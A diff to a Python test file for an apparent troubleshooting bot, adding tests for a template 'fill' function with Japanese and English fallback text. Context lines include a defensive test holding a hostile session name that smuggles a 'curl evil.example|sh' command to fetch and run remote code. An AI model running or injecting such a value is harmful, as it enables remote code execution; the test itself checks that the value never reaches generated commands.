@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from bot.advice import Advice, advise
+from bot.advice import Advice, advise, fill
 from bot.diagnosis import diagnose
 from bot.knowledge import KnowledgeBase
 
@@ -94,3 +94,21 @@ def test_a_hostile_session_name_is_reported_but_never_put_into_a_command(kb: Kno
     assert advice.entities["session_name"] == "x$(curl evil.example|sh);id"
     commands = _commands(advice)
     assert "evil" not in commands and "$SESSION_NAME" in commands
+
+
+def test_a_japanese_fallback_reads_without_spaces_and_a_name_keeps_them() -> None:
+    template = "このエラーのために {role|対象のロール} やその信頼ポリシーを変更する必要はありません。"
+    assert (
+        fill(template, {}) == "このエラーのために対象のロールやその信頼ポリシーを変更する必要はありません。"
+    )
+    assert fill(template, {"role": "deploy-role"}) == (
+        "このエラーのために deploy-role やその信頼ポリシーを変更する必要はありません。"
+    )
+
+
+def test_an_empty_fallback_leaves_no_stray_space() -> None:
+    assert fill("Look at the existing role {role|}: when it was created", {}) == (
+        "Look at the existing role: when it was created"
+    )
+    assert fill("the role {role|} in {account}", {"account": "111122223333"}) == "the role in 111122223333"
+    assert fill("既存のロール {role|} を確認します", {}) == "既存のロールを確認します"
